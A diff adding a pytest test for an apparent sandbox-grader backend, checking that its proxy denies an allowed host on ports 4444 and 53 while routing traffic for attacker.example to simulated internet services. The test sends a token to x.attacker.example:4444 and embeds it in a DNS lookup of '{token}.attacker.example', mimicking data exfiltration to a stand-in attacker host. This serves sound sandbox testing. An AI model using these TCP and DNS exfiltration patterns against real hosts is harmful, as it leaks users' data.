@@ -902,3 +902,38 @@ def test_a_service_without_the_worlds_ports_does_not_start(services: Services, t
     done = subprocess.run([sys.executable, str(opt / script), str(path)], cwd=opt, env=env, capture_output=True, text=True, timeout=30)
     assert done.returncode != 0 and says in done.stderr, done.stderr[-500:]
     assert not (tmp_path / "out" / "ready").exists()
+
+
+def test_the_srt_backends_services_serve_the_worlds_ports_on_their_loopback_ports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The srt backend's configs (its internet on free loopback ports, its parent proxy mapping the world's
+    ports to them), started as it starts them: the world's ports answer, an allowed download host's 4444 does not."""
+    from grader import load_policy
+    from grader.backends import srt
+    from grader.plan import build_plan
+
+    monkeypatch.setenv("SANDBOX_LAB_RUNS", str(tmp_path))
+    run = srt._Run(build_plan(load_policy({"network": {"allowedDomains": ["pypi.org"]}})), "")
+    dns, http, https, tcp, port = srt._free_ports(5)
+    try:
+        run._start_services(dns, http, https, tcp, port)
+        token = uuid.uuid4().hex
+        assert _send_refusable(port, b"CONNECT pypi.org:4444 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
+        assert _send_refusable(port, b"CONNECT pypi.org:53 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
+        answer = _send_refusable(port, f"CONNECT x.attacker.example:4444 HTTP/1.1\r\n\r\n{token}".encode())
+        assert answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"\n") and b"ok " in answer, answer
+        internet = run.dir.path / "internet" / "out"
+        _wait_for(internet / "tcp.jsonl", lambda r: r.get("data") == token and r.get("port") == tcp)
+        with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
+            sock.sendall(b"CONNECT attacker.example:53 HTTP/1.1\r\n\r\n")
+            head = b""
+            while not head.endswith(b"\r\n\r\n") and (chunk := sock.recv(1)):
+                head += chunk
+            assert head.startswith(b"HTTP/1.1 200"), head
+            assert dnswire.parse_response(_dns_over_tcp(sock, f"{token}.attacker.example")[2:]).addresses == (LOCALHOST,)
+        refused = [r for r in _records(run.dir.path / "proxy" / "out" / "proxy.jsonl") if r["host"] == "pypi.org"]
+        assert [(r["port"], r["decision"]) for r in refused] == [(4444, "deny"), (53, "deny")]
+        assert all(r["reason"].startswith(proxy.NOT_SERVED) for r in refused)
+    finally:
+        for p in run.procs:
+            _stop(p)
+        shutil.rmtree(run.dir.path, ignore_errors=True)
